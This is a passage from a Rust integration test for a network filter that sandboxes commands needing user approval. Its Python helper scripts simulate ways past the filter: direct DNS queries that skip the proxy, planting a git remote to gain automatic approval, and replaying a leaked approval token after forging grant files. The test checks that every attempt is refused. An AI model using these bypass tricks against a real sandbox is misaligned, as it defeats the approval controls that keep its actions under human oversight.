        "import socket\ns = socket.create_connection(('granted.test', 8080), 3)\ns.sendall(b'GET /later HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(100))\n",
    );
    // A client that ignores proxy variables and asks DNS itself (as Go's
    // resolver does): the name gets the filter's own address, and the
    // filter connects it on the host's side.
    write(
        &env,
        "direct.py",
        r#"import socket, struct
q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x07allowed\x04test\x00" + struct.pack("!2H", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(q, ("9.9.9.9", 53))
ip = socket.inet_ntoa(u.recv(512)[-4:])
s = socket.create_connection((ip, 8080), 3)
s.sendall(b"GET /direct HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
head = s.recv(500).decode()
mine = "the client's own socket" if f"X-Peer-Port: {s.getsockname()[1]}\r\n" in head else "a relay"
print(ip.split(".")[0], head.split("\r\n")[0], "from", mine)
"#,
    );
    // A contained command makes the project (no git repository yet) one
    // whose remote is the host it wants: the filter does not take it (the
    // project's git configuration counts as it was before the session),
    // in this command's filter or the next one's.
    write(
        &env,
        "plant.py",
        "import os, time\nos.makedirs('.git', exist_ok=True)\nopen('.git/config', 'w').write('[remote \"origin\"]\\n\\turl = http://granted.test:8080/r.git\\n')\ntime.sleep(0.6)\n",
    );
    let shim = env.shims.join("bash").display().to_string();
    // In the test's own namespace (twice: the user approves between).
    let in_netns = |steps: &str| {
        let mut cmd = env.command("unshare");
        cmd.args([
            "-rmn",
            crate::support::real_bash(),
            "-c",
            &format!("{OUTSIDE_HOST}\n{steps}"),
        ])
        .env("ROOT", env.root());
        run(&mut cmd)
    };
    let r = in_netns(&format!(
        r#"echo "== allowed"; "{shim}" -c 'curl -sS http://allowed.test:8080/allowed' || true
echo "== direct"; "{shim}" -c 'python3 direct.py' || true
echo "== ask"; "{shim}" -c 'curl -sS http://granted.test:8080/granted' 2>"$ROOT/ask.err" || true
"{shim}" -c 'python3 plant.py'
echo "== planted"; "{shim}" -c 'python3 later.py' || true"#
    ));
    let out = r.stdout();
    assert!(
        out.contains("== allowed\noutside says hi"),
        "{out}{}",
        r.stderr()
    );
    assert!(
        out.contains("== direct\n198 HTTP/1.0 200 OK from the client's own socket"),
        "{out}{}",
        r.stderr()
    );
    let ask = std::fs::read_to_string(env.root().join("ask.err")).unwrap_or_default();
    assert!(ask.contains("needs the user's approval"), "{ask}");
    assert!(
        std::fs::read_to_string(env.work.join(".git/config"))
            .unwrap()
            .contains("granted.test"),
        "the remote was not planted: {out}"
    );
    assert!(!out.contains("== planted\nb'HTTP"), "{out}");
    let at = ask.find("automode approve ").unwrap();
    let code = &ask[at + "automode approve ".len()..][..7];
    let ok = run(env.automode().args(["approve", code]));
    assert_eq!(ok.code(), Some(0), "{}", ok.stderr());
    // The approved command's token (its audit id), as if it had leaked,
    // no longer admits anything once the command's processes are gone.
    write(
        &env,
        "stolen.py",
        r#"import base64, os, socket, sys, urllib.parse
p = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
s = socket.create_connection((p.hostname, p.port), 3)
auth = base64.b64encode(f"automode:{sys.argv[1]}".encode()).decode()
s.sendall(f"GET http://granted.test:8080/stolen HTTP/1.1\r\nHost: granted.test:8080\r\nProxy-Authorization: Basic {auth}\r\nConnection: close\r\n\r\n".encode())
print(s.recv(300).decode().split("\r\n")[0])
"#,
    );
    let r = in_netns(&format!(
        r#"echo "== approved"; "{shim}" -c 'curl -sS http://granted.test:8080/granted' || true
echo "== later"; "{shim}" -c 'python3 later.py' || true
token=$(python3 -c 'import json, sys
ids = [r["id"] for r in map(json.loads, open(sys.argv[1])) if r.get("event") == "decision" and "granted" in r.get("script", "") and r.get("ran")]
print(ids[-1])' "$XDG_STATE_HOME/automode/audit.jsonl")
echo "== stolen"; "{shim}" -c "python3 stolen.py $token" || true
# The ids it was tied to, used again by another process (as a pid comes
# round again): a process of the host that leads a session of its own
# and has the pid of the command's namespace's first process.
setsid sleep 30 & holder=$!
python3 -c 'import glob, json, sys
for f in glob.glob(sys.argv[1] + "/automode/net/*.grants/*.json"):
    g = json.load(open(f))
    g["sid"] = g["first_pid"] = int(sys.argv[2])
    json.dump(g, open(f, "w"))' "$XDG_STATE_HOME" "$holder"
echo "== reused"; "{shim}" -c "python3 stolen.py $token" || true
kill $holder"#
    ));
    let out = r.stdout();
    assert!(
        out.contains("== approved\noutside says hi"),
        "{out}{}",
        r.stderr()
    );
    assert!(!out.contains("== later\nb'HTTP"), "{out}");
    assert!(
        out.contains("== stolen\nHTTP/1.1 403"),
        "{out}{}",
        r.stderr()
    );
    assert!(
        out.contains("== reused\nHTTP/1.1 403"),
        "{out}{}",
        r.stderr()
    );
    let log = std::fs::read_to_string(env.root().join("outside.log")).unwrap_or_default();
    assert_eq!(log, "/allowed\n/direct\n/granted\n", "{out}{}", r.stderr());
}
